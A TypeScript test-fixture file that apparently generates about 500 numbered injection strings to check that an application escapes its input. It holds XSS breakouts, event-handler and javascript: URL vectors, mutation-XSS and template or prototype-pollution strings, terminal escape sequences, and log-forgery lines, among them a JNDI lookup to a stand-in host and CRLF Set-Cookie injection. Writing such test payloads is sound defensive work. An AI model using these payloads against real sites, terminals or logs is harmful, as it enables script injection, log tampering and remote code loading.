/** For the journeys: 500 texts that would run a script, steer a terminal or forge a log line. Each leaves a mark of its own. */

/** Where in a document a text runs if it is not escaped; `none`: no browser runs it, its place is elsewhere. */
export type Context =
  | 'html'
  | 'attribute'
  | 'single'
  | 'textarea'
  | 'title'
  | 'style'
  | 'script'
  | 'comment'
  | 'url'
  | 'none';

export type Payload = { number: number; family: string; context: Context; text: string };

/** What a payload calls when it runs, with its number. */
export const MARK = 'mk';

/** A text to be: `§` stands for the call, `¶` for its number. */
type Recipe = { family: string; context: Context; write: (call: string, number: number) => string };

/** How a text leaves the place it was put in. */
const BREAKOUTS: [context: Context, prefix: string][] = [
  ['html', ''],
  ['attribute', '">'],
  ['single', "'>"],
  ['textarea', '</textarea>'],
  ['title', '</title>'],
  ['style', '</style>'],
  ['script', '</script>'],
  ['comment', '-->'],
  ['comment', '--!>'],
];

/** Markup that runs by itself, or once somebody clicks on it. */
const VECTORS = [
  '<script>§</script>',
  '<ScRiPt >§</sCrIpT >',
  '<script/x>§</script>',
  '<script src=data:,§></script>',
  '<script type=module>§</script>',
  '<svg><script>§</script>',
  '<svg><script>&#109;k(¶)</script>',
  '<img src=x onerror=§>',
  '<img/src/onerror=§>',
  '<IMG SRC=x ONERROR=§>',
  '<img src=x onerror=&#109;k(¶)>',
  '<img src=x onerror=\\u006dk(¶)>',
  '<svg onload=§>',
  '<svg/onload=§>',
  '<svg><animate onbegin=§ dur=1s>',
  '<svg><a xlink:href=javascript:§><text>x',
  '<math><mi onclick=§>x',
  '<iframe onload=§>',
  '<iframe src=javascript:parent.§>',
  "<iframe srcdoc='<script>parent.§</script>'>",
  '<details open ontoggle=§>',
  '<video src=x onerror=§>',
  '<video><source onerror=§>',
  '<input autofocus onfocus=§>',
  '<link rel=stylesheet href=x onerror=§>',
  '<a href=javascript:§>x',
  '<a href=java&Tab;script:§>x',
  '<form action=javascript:§><button>x',
  '<button onclick=§>x',
  '<div onpointerover=§>x',
];

const HANDLERS = ['focus', 'blur', 'click', 'input', 'change', 'keydown', 'pointerdown', 'paste', 'wheel', 'dblclick'];
const ELEMENTS = [
  'p',
  'b',
  'q',
  'li',
  'h1',
  'nav',
  'main',
  'cite',
  'code',
  'label',
  'meter',
  'object',
  'dialog',
  'slot',
  'kbd',
  'ruby',
  'hr',
  'canvas',
  'output',
  'search',
];

const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  '\u0001javascript:',
  'java\tscript:',
  'javascript\n:',
  '\tjavascript:',
  'j\r\navascript:',
];
const ADDRESS_BODIES = ['§', 'void(§)', '//%0A§', '%6d%6b(¶)', '§//https://x.fr/'];

/** Texts that end a string of a script, or an expression of one. */
const SCRIPT_ENDS = [
  '";§;//',
  '"-§-"',
  '"+§+"',
  '"\n§\n"',
  '";§;"',
  '"||§||"',
  '";{§}"',
  '",§,"',
  '"?§:§;"',
  '"in §;"',
];

/** Read as markup or code only by what decodes once too often, or fills templates. */
const DECODED = [
  '\uff1cscript\uff1e§\uff1c/script\uff1e',
  '\u2039img src=x onerror=§\u203a',
  '%3Cscript%3E§%3C/script%3E',
  '%253Cimg%2520src%253Dx%2520onerror%253D§%253E',
  '\\x3cscript\\x3e§\\x3c/script\\x3e',
  '\\u003cimg src=x onerror=§\\u003e',
  '&lt;script&gt;§&lt;/script&gt;',
  '&#60;img src=x onerror=§&#62;',
  '&#x3c;svg onload=§&#x3e;',
  '+ADw-script+AD4-§+ADw-/script+AD4-',
  '%C0%BCscript%C0%BE§%C0%BC/script%C0%BE',
  '%u003Cscript%u003E§',
  '<\u017fcript>§</\u017fcript>',
  '<scr\u200bipt>§</scr\u200bipt>',
  '<s\u0441ript>§</s\u0441ript>',
  '<![CDATA[<script>§</script>]]>',
  '<?xml version="1.0"?><x onload=§>',
  '<!ENTITY x SYSTEM "data:,§">&x;',
  '<xsl:script>§</xsl:script>',
  'data:text/html,<script>§</script>',
  '<scr\u00adipt>§</scr\u00adipt>',
  '<script>\ufeff§</script>\ufeff',
  '%E0%80%BCscript%E0%80%BE§',
  '&amp;lt;svg onload=§&amp;gt;',
  '\u202e<script>§</script>\u202c',
];
const TEMPLATES = ['{{§}}', '${§}', '#{§}', '<%= § %>', '{%§%}', '[[§]]', '{{=§}}', '$t(§)', '$t({{§}})', '@(§)'];
const CONSTRUCTORS = [
  "{{constructor.constructor('§')()}}",
  '{{$on.constructor("§")()}}',
  '{"__proto__":{"x":"§"}}',
  '{"dangerouslySetInnerHTML":{"__html":"§"}}',
  'constructor.prototype.x=§',
];

/** Known to change their meaning when markup is parsed, written and parsed again. */
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=§>">',
  '<svg></p><style><a id="</style><img src=x onerror=§>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=§&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=§>',
  '<svg><title><style><img src="</style><img src=x onerror=§>">',
  '<listing>&lt;img src=x onerror=§&gt;</listing>',
  '<xmp><p title="</xmp><svg onload=§>">',
  '<template><script>§</script></template><img src=x onerror=§>',
  '<select><template shadowrootmode=open><svg onload=§>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=§></style>',
];

const ESCAPES = [
  '\u001b]0;§\u0007',
  '\u001b]2;§\u001b\\',
  '\u001b]8;;https://x.fr/§\u0007x\u001b]8;;\u0007',
  '\u001b]52;c;§\u0007',
  '\u001b]1337;File=inline=1:§\u0007',
  '\u001b]4;1;§',
  '\u001b[2J\u001b[1;1H§',
  '\u001b[8m§\u001b[0m',
  '\u001b[1A\u001b[2K§',
  '\u001b[?1049h§',
  '\u001b[6n§',
  '\u001b[20;§t',
  '\u001bP$q§\u001b\\',
  '\u001b_G§\u001b\\',
  '\u001b^§\u001b\\',
  '\u001bX§\u001b\\',
  '\u001bc§',
  '\u001b(0§',
  '\u001b#8§',
  '\u009b31m§',
  '\u009d0;§\u009c',
  '\u0090q§\u009c',
  '\u009f§\u009c',
  'x\r§',
  'x\b\b\b§',
  'x\u007f\u007f§',
  '\u0007\u0007§',
  '\u000e§\u000f',
  'x\u000b\u000c§',
  '\u202e§\u2066',
];

const FORGERIES = [
  '\r\n{"level":30,"msg":"§"}',
  '\n{"level":60,"msg":"§"}',
  '\r{"level":60,"msg":"§"}',
  '\u2028{"level":30,"msg":"§"}',
  '\u0085{"level":30,"msg":"§"}',
  '"}\n{"level":30,"msg":"§"}',
  '","level":60,"msg":"§","x":"',
  '%0d%0a{"level":30,"msg":"§"}',
  '\\r\\n{"level":30,"msg":"§"}',
  '\n2026-11-21T00:00:00Z INFO §',
  '\r\nSet-Cookie: x=§\r\n\r\n<script>§</script>',
  '\nERROR:  § \nSTATEMENT:  drop table question',
  '%s %d %j %o §',
  '${jndi:ldap://x.fr/§}',
  '\n2222-2222  received  2025-05-23T00:00:00.000Z  fr  §',
];

function recipes(): Recipe[] {
  const of = (family: string, context: Context, templates: string[]): Recipe[] =>
    templates.map((template) => ({
      family,
      context,
      write: (call, number) => template.replaceAll('§', call).replaceAll('¶', String(number)),
    }));
  const attributes = HANDLERS.flatMap((event) => [`" on${event}=§ x="`, `"tabindex=0 on${event}="§`]);
  const elements = ELEMENTS.map((element) => `<${element} onclick=§>x`);
  return [
    ...BREAKOUTS.flatMap(([context, prefix]) =>
      of(
        `markup out of ${context}`,
        context,
        VECTORS.map((vector) => prefix + vector),
      ),
    ),
    ...of('handler put into a tag', 'attribute', attributes),
    ...of('handler on any element', 'html', elements),
    ...of(
      'address',
      'url',
      SCHEMES.flatMap((scheme) => ADDRESS_BODIES.map((body) => scheme + body)),
    ),
    ...of('script put into a script', 'script', SCRIPT_ENDS),
    ...of('decoded too often', 'none', DECODED),
    ...of('template', 'none', [...TEMPLATES, ...CONSTRUCTORS]),
    ...of('mutation', 'none', MUTATIONS),
    ...of('terminal', 'none', ESCAPES),
    ...of(
      'terminal, amid a name',
      'none',
      ESCAPES.map((escape) => `Marie${escape}Lefèvre`),
    ),
    ...of('log line', 'none', FORGERIES),
    ...of(
      'log line, after a word',
      'none',
      FORGERIES.map((forgery) => `Zzyzx${forgery}`),
    ),
  ];
}

/** All of them, numbered from 100 so that each number is as long. */
export const PAYLOADS: Payload[] = recipes().map(({ family, context, write }, index) => {
  const number = 100 + index;
  return { number, family, context, text: write(`${MARK}(${number})`, number) };
});
